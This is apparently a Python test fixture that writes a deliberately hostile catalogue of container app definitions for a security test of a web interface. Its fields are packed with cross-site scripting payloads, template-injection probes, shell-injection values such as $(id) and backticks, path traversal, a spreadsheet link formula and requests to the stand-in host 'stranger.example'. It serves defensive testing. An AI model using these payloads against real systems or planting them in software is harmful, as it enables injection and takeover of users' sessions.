"""One hostile catalogue: every text that a definition can hold attacks whatever shows it.

`put(folder)` writes it into a local metastore, `FILES` has the texts, `MARK` stands in every attack, `names()` are the
rock-ons that load. Whoever crawls pages with it fails on a script that ran (`window.hostile`, a dialog), on a request
to `STRANGER`, and on a sign of `UNSEEN` in the page.
"""

import json
from pathlib import Path
from typing import Any

STRANGER = "stranger.example"
MARK = "h0stile"
RUN = "window.hostile=1;alert(1)"
BIDI = "\u202egnp.exe\u2066"
ANSI = "\x1b[31m\x1b]0;h0stile\x07\x9b2J"

SCRIPT = f"<script>{RUN}</script><script src=//{STRANGER}/s.js></script>"
ATTRIBUTE = f"\"'><img src=x onerror={RUN}><b onmouseover='{RUN}' autofocus onfocus={RUN} tabindex=1>"
SVG = f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>"
SVG += f"<foreignObject><iframe srcdoc='<script>{RUN}'></iframe></svg>"
CSS = f"<style>@import '//{STRANGER}/c.css';*{{background:url(//{STRANGER}/b.png)}}</style>"
CSS += f"<p style='background:url(//{STRANGER}/p.png)'>x</p><link rel=stylesheet href=//{STRANGER}/l.css>"
LINKS = f"<a href='javascript:{RUN}'>a</a><a href='data:text/html,{SCRIPT}'>b</a><a href=' jAvA\tscript:{RUN}'>c</a>"
FETCHED = (
    f"<img src=//{STRANGER}/i.png srcset=//{STRANGER}/2.png><iframe src=//{STRANGER}></iframe>"
    f"<video poster=//{STRANGER}/v></video><object data=//{STRANGER}/o></object>"
    f"<embed src=//{STRANGER}/e><audio src=//{STRANGER}/a autoplay></audio>"
    f"<meta http-equiv=refresh content='0;url=//{STRANGER}'>"
    f"<base href=//{STRANGER}/><form action=//{STRANGER}><input>"
    f"<table background=//{STRANGER}/t><input type=image src=//{STRANGER}/n><link rel=prefetch href=//{STRANGER}/f>"
)
TEMPLATES = "{{7*7}}${7*7}{%raw%}#{7*7}<%= 7*7 %>%(name)s%s{0}__proto__"
FORMULA = '=HYPERLINK("//stranger.example")'
ENDS = f"</textarea></title></style></script></template></noscript></pre>--><!--]]>{SCRIPT}"
CONFUSED = f"<noscript><p title='</noscript><img src=x onerror={RUN}>'><math><mtext><table><mglyph><style><!--</style>"
HTMX = f'<div hx-get="//{STRANGER}/h" hx-trigger="load" data-hx-get="//{STRANGER}/h"></div>'
LONG = "W" * 3_000 + " " + "\u4e2d" * 1_000

HTML = f"{MARK}{SCRIPT}{ATTRIBUTE}{SVG}{CSS}{LINKS}{FETCHED}{TEMPLATES}{CONFUSED}{HTMX}{BIDI}{ANSI}{ENDS}"
TEXT = f"{FORMULA}{MARK}{ATTRIBUTE}{SCRIPT}{SVG}{TEMPLATES}{HTMX}{BIDI}{ANSI}{ENDS}\r\nSet-Cookie: {MARK}=1"
# A name, a key or a word of a command line: only signs that are seen, or the file would be faulty.
NAME = f"{FORMULA[:10]}{MARK}\"'><img src=x onerror={RUN}>{{{{7*7}}}}"
WORD = f"{MARK}\"'><script>{RUN}</script>{TEMPLATES};$(id)`id`&&id|id"
PATH = f"/{MARK}\"'><img src=x onerror={RUN.partition(';')[0]}>{{{{7*7}}}}"


def hostile_question(**keys: Any) -> dict[str, Any]:
    """A question with a hostile label and description."""
    return {"label": f"{MARK} {TEXT}", "description": TEXT, **keys}


def hostile_body(container: str = "hostile-app", port: int = 18080) -> dict[str, Any]:
    """The JSON object of a hostile rock-on that can be installed."""
    return {
        "description": HTML,
        "version": TEXT,
        "website": f"javascript:{RUN}",
        "icon": f"https://{STRANGER}/icon.svg?\"'><script>",
        "more_info": HTML,
        "ui": {"slug": f'"><script>{RUN}</script>/../..//{STRANGER}/{BIDI}{ANSI}', "https": False},
        "volume_add_support": True,
        "custom_config": {NAME: hostile_question(), "PASSWORD": hostile_question()},
        "containers": {
            container: {
                "image": "box.example/hostile/app",
                "launch_order": 1,
                "ports": {"80": hostile_question(host_default=port, protocol="tcp", ui=True)},
                "volumes": {PATH: hostile_question(min_size=1), "/plain": hostile_question()},
                "environment": {NAME.replace("=", ""): hostile_question(), "ADMIN_PASSWORD": hostile_question()},
                "devices": {NAME.replace("=", ""): hostile_question()},
                "opts": [["-e", f"A={WORD}"], ["-v", f"/{WORD}:/x"], ["--cap-add", WORD], ["--hostname", WORD]],
                "cmd_arguments": [[WORD, FORMULA], ["--", "-rf"]],
            },
            f"{container}-2": {"image": "box.example/hostile/second", "launch_order": 2},
        },
        "container_links": {container: [{"name": f"{container}-net", "source_container": f"{container}-2"}]},
    }


LONG_NAME = ("W" * 100)[:100]
FILES: dict[str, Any] = {
    "hostile.json": {NAME: hostile_body()},
    "long.json": {LONG_NAME: {**hostile_body("long-app", 18081), "description": LONG, "version": LONG}},
    "website.json": {
        "Website": {**hostile_body("website-app", 18082), "website": f"https://{STRANGER}/\"'><script>{RUN}</script>"}
    },
    # What must not load, and whose faults are shown.
    "faulty.json": {f"{NAME} faulty": {TEXT: 1, "containers": {TEXT: {TEXT: TEXT}}}},
    "options.json": {
        "Options": {**hostile_body("options-app"), "containers": {"oo": {"image": TEXT, "opts": [[TEXT, TEXT]]}}}
    },
    "unseen.json": {f"unseen{BIDI}{ANSI}": hostile_body("unseen-app")},
}
FILE_NAMES = [f"<img src=x onerror={RUN.replace('=', '')}>\"'.json", f"{{{{7*7}}}}{MARK}.json"]


def loadable_names() -> list[str]:
    """The rock-ons that load."""
    return [NAME, LONG_NAME, "Website"]


def write_catalogue(folder: Path) -> None:
    """Write the catalogue into a folder, some files of it under hostile names."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in FILES.items():
        (folder / name).write_text(json.dumps(content))
    for name in FILE_NAMES:
        (folder / name).write_text(f"not JSON {TEXT}")
